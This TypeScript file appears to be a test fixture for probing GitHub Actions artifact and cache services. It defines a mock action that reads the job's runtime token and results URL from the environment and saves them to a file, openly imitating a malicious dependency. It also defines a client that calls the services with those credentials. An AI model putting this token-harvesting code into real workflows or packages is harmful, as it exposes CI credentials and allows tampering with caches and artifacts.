import { readFileSync } from 'node:fs';

/** An action that leaves what a job may use artifacts and caches by, as malicious code in a dependency would take it. */
export const leakingAction: Record<string, string> = {
  'leak/action.yml':
    'name: leak\ninputs: { file: { required: true } }\nruns: { using: node24, main: main.mjs }\n',
  'leak/main.mjs': `import { renameSync, writeFileSync } from 'node:fs';
const { ACTIONS_RESULTS_URL: url, ACTIONS_RUNTIME_TOKEN: token } = process.env;
const file = process.env.INPUT_FILE;
writeFileSync(file + '.part', JSON.stringify({ url, token }));
renameSync(file + '.part', file);
`,
};

/** The artifact and cache services, with the credentials of a job. */
export interface JobRuntime {
  url: string;
  token: string;
  call(service: 'Artifact' | 'Cache', method: string, body: object, token?: string | null): Promise<Answered>;
}

export interface Answered {
  status: number;
  body: Record<string, unknown>;
}

/** @param file where the action has left them */
export function runtimeOf(file: string): JobRuntime {
  const { url, token: own } = JSON.parse(readFileSync(file, 'utf8')) as { url: string; token: string };
  return {
    url,
    token: own,
    async call(service, method, body, token = own) {
      const response = await fetch(`${url}twirp/github.actions.results.api.v1.${service}Service/${method}`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          ...(token !== null && { authorization: `Bearer ${token}` }),
        },
        body: JSON.stringify(body),
      });
      return { status: response.status, body: (await response.json()) as Record<string, unknown> };
    },
  };
}
